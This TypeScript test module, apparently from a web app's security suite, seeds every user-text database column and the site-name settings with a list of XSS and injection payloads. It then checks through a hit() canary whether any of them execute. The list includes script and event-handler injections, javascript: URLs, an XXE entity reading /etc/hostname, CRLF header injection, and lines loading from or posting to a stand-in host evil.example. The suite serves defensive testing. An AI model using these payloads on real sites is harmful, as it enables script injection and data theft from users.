import { getTableColumns, getTableName, sql } from 'drizzle-orm';
import { PgArray, type PgColumn, type PgTable, PgText } from 'drizzle-orm/pg-core';
import { updateDerived } from '@/db/articles/derive';
import { db } from '@/db/client';
import { announceChange } from '@/db/invalidation/transport';
import { registry } from '@/db/registry';
import { articles } from '@/db/schema/articles';
import { attacks as htmlAttacks } from '@/html/attacks';
import { sanitizeArticle } from '@/html/sanitize';
import { indexArticles } from '@/search/article-index';
import { firstCharacters } from '@/text/characters';
import { limits } from '@/text/limits';

/** What is typed into fields of plain text, in the shapes of the places where it may come to stand; hit() tells. */
export const attacks: readonly string[] = `
<script>hit(1)</script>
</title><script>hit(2)</script>
</textarea><img src=x onerror=hit(3)>
--><svg onload=hit(4)>
"><img src=x onerror=hit(5)>
'><img src=x onerror=hit(6)>
" onfocus=hit(7) autofocus x="
' onmouseover=hit(8) x='
x onpointerenter=hit(9) style=position:fixed;inset:0
<svg><animate onbegin=hit(10) attributeName=x dur=1s>
<details open ontoggle=hit(11)>
<iframe srcdoc="<script>parent.hit(12)</script>">
<math><mtext><table><mglyph><style><img src=x onerror=hit(13)>
<noscript><p title="</noscript><img src=x onerror=hit(14)>">
<a href="javascript:hit(15)">甲</a>
javascript:hit(16)
java\u0000script:hit(17)
data:text/html,<script>hit(18)</script>
[甲](javascript:hit(19))
https://evil.example/"onmouseover="hit(20)
//evil.example/x.js
<base href=//evil.example/>
<meta http-equiv=refresh content=0;url=//evil.example/>
<link rel=stylesheet href=//evil.example/a.css>
<form action=//evil.example/><button>登录</button>
<img src=//evil.example/pixel.png>
</script><script>hit(27)</script>
\\u003cscript>hit(28)\\u003c/script>
";hit(29);//
\`;hit(30);//
\${hit(31)}
{{constructor.constructor('hit(32)')()}}
%3Cscript%3Ehit(33)%3C/script%3E
&lt;img src=x onerror=hit(34)&gt;
&#60;script&#62;hit(35)&#60;/script&#62;
＜script＞hit(36)＜/script＞
<ſcript>hit(37)</ſcript>
]]><script xmlns="http://www.w3.org/1999/xhtml">hit(38)</script>
<?xml-stylesheet href="data:text/xsl,x"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;
甲\r\nSet-Cookie: a=b\r\n\r\n<script>hit(40)</script>
</p></div></main></body></html><h1>完</h1>
<div style="position:fixed;inset:0;z-index:9999">盖住</div>
<!--
<plaintext>
\u202e\u2066<b>反</b>\u2069
${'无处断开'.repeat(12)}
${'withoutbreak'.repeat(8)}
Z\u0335\u0353\u0318\u0301\u0300\u0316algo
__proto__
=HYPERLINK("//evil.example","甲")
`
  .trim()
  .split('\n')
  .map((line) => line.replaceAll('\\r\\n', '\r\n').replaceAll('\0', ''));

/** Fields that hold no words of people: addresses, secrets, and what is checked when it is typed. */
const NO_WORDS =
  /email|slug|hash|digest|code|path|url|zone|user_name|homepage|token|secret|device|address$|action|locked|error|version|oldest|key$/;
const NO_TABLES = /^(letters|audit_log|tokens|sessions|jobs|settings|rate_limits|pauses|searches|.*_links|.*search.*)$/;

/** Some of the attacks on HTML, as they are stored when an editor or an old site sent them. */
const storedHtml = (n: number) =>
  sanitizeArticle(
    Array.from({ length: 8 }, (_, i) => `<p>${htmlAttacks[(n * 8 + i) % htmlAttacks.length]}</p>`)
      .join('')
      .replaceAll('FIRE', 'hit(99)'),
  );

/** The longest that the forms take, in characters (text/limits.ts); names and short titles are shorter than the rest. */
const longest = ({ name }: PgColumn, table: string) => {
  if (name === 'html') return 1_000_000;
  return /columns|sections/.test(table) ? limits.columnName : /name|section/.test(name) ? limits.personName : 100;
};

async function poisonColumn(table: PgTable, column: PgColumn): Promise<boolean> {
  const [name, field] = [sql.identifier(getTableName(table)), sql.identifier(column.name)];
  const most = longest(column, getTableName(table));
  const all = column.name === 'html' ? Array.from({ length: 40 }, (_, n) => storedHtml(n)) : attacks;
  const words = all.map((one) => firstCharacters(one, most));
  const list = sql`array[${sql.join(
    words.map((one) => sql`${one}::text`),
    sql`, `,
  )}]`;
  const one = sql`(${list})[1 + abs(hashtext(ctid::text || ${column.name})) % ${words.length}]`;
  const value = column instanceof PgArray ? sql`array[${one}]` : one;
  try {
    await db().execute(sql`update ${name} set ${field} = ${value} where ${field} is not null`);
    return true;
  } catch {
    // A rule of the table: such words are not stored there.
    return false;
  }
}

/** Writes attacks into every field of words of every table, past all forms; gives the fields as `articles.title`. */
export async function poisonEverything(): Promise<string[]> {
  const tables = Object.values(registry).flatMap(({ tables: { exported } }) => exported);
  const poisoned: string[] = [];
  for (const table of tables.filter((one) => !NO_TABLES.test(getTableName(one)))) {
    for (const column of Object.values(getTableColumns(table)) as PgColumn[]) {
      const isText = (column instanceof PgText && !column.enumValues?.length) || column instanceof PgArray;
      if (!isText || column.primary || NO_WORDS.test(column.name)) continue;
      if (await poisonColumn(table, column)) poisoned.push(`${getTableName(table)}.${column.name}`);
    }
  }
  for (const [name, value] of [
    ['siteName', '"><img src=x onerror=hit(70)>'],
    ['siteDescription', '</title><script>hit(71)</script>'],
  ])
    await db().execute(sql`insert into settings (name, value) values (${name}, to_jsonb(${value}::text))
      on conflict (name) do update set value = excluded.value`);
  const ids = (await db().select({ id: articles.id }).from(articles)).map(({ id }) => id);
  await db().transaction(async (tx) => {
    await updateDerived(tx, ids);
    await indexArticles(tx, ids);
  });
  await announceChange(['everything']);
  return poisoned;
}
